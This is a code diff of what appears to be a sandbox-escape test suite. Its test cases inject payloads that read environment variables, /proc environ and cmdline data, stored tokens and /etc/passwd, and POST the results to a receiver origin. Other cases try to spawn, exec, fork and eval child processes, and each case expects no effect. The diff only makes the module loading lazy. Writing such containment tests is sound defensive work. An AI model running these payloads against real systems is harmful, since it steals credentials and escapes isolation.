@@ -280,18 +280,18 @@ export const RELEASE_FAULTS: readonly ReleaseFault[] = [
     expected: 'no effect',
     atRender: (_remote, { dataDir, receiverOrigin }) =>
       `${steal(`
-      const fs = require('node:fs');
+      const files = () => require('node:fs');
       const secret = (text) => (/TOKEN|DATA_DIR|HOME|PATH=/.test(text) ? text : null);
       await look('env', () => secret(Object.entries(process.env).map((pair) => pair.join('=')).join(' ')));
       for (const pid of ['self', process.pid, process.ppid, 1]) {
-        await look(pid + '/environ', () => secret(fs.readFileSync('/proc/' + pid + '/environ', 'utf8')));
-        await look(pid + '/cmdline', () => pid !== 'self' && pid !== process.pid && fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8'));
+        await look(pid + '/environ', () => secret(files().readFileSync('/proc/' + pid + '/environ', 'utf8')));
+        await look(pid + '/cmdline', () => pid !== 'self' && pid !== process.pid && files().readFileSync('/proc/' + pid + '/cmdline', 'utf8'));
       }
       for (const name of ['registry/operator-token', 'registry/shell-token', 'store-api/orders-token', 'shell/active.json', '../etc/passwd'])
-        await look(name, () => fs.readFileSync(${JSON.stringify(dataDir)} + '/' + name, 'utf8'));
-      await look('list', () => fs.readdirSync(${JSON.stringify(dataDir)}).join());
-      await look('passwd', () => fs.readFileSync('/etc/passwd', 'utf8'));
-      await look('write', () => (fs.writeFileSync(${JSON.stringify(dataDir)} + '/written', 'x'), 'written'));
+        await look(name, () => files().readFileSync(${JSON.stringify(dataDir)} + '/' + name, 'utf8'));
+      await look('list', () => files().readdirSync(${JSON.stringify(dataDir)}).join());
+      await look('passwd', () => files().readFileSync('/etc/passwd', 'utf8'));
+      await look('write', () => (files().writeFileSync(${JSON.stringify(dataDir)} + '/written', 'x'), 'written'));
       if (got.length > 0) await fetch(${JSON.stringify(receiverOrigin)}, { method: 'POST', body: got.join(' ') }).catch(() => {});`)}`,
     afterRender: SHOW_LOOT,
   },
@@ -303,10 +303,10 @@ export const RELEASE_FAULTS: readonly ReleaseFault[] = [
     atRender: (_remote, { markerFile }) =>
       steal(`
       const marker = ${JSON.stringify(markerFile)};
-      const { spawnSync, execFileSync, fork } = require('node:child_process');
-      await look('spawn', () => spawnSync('touch', [marker]).status === 0);
-      await look('exec', () => execFileSync(process.execPath, ['-e', 'console.log(1)']));
-      await look('fork', () => fork(marker).pid);
+      const processes = () => require('node:child_process');
+      await look('spawn', () => processes().spawnSync('touch', [marker]).status === 0);
+      await look('exec', () => processes().execFileSync(process.execPath, ['-e', 'console.log(1)']));
+      await look('fork', () => processes().fork(marker).pid);
       await look('worker', () => new Promise((resolve, reject) => {
         const { Worker } = require('node:worker_threads');
         const worker = new Worker('require("node:fs").writeFileSync(' + JSON.stringify(marker) + ', "x")', { eval: true });
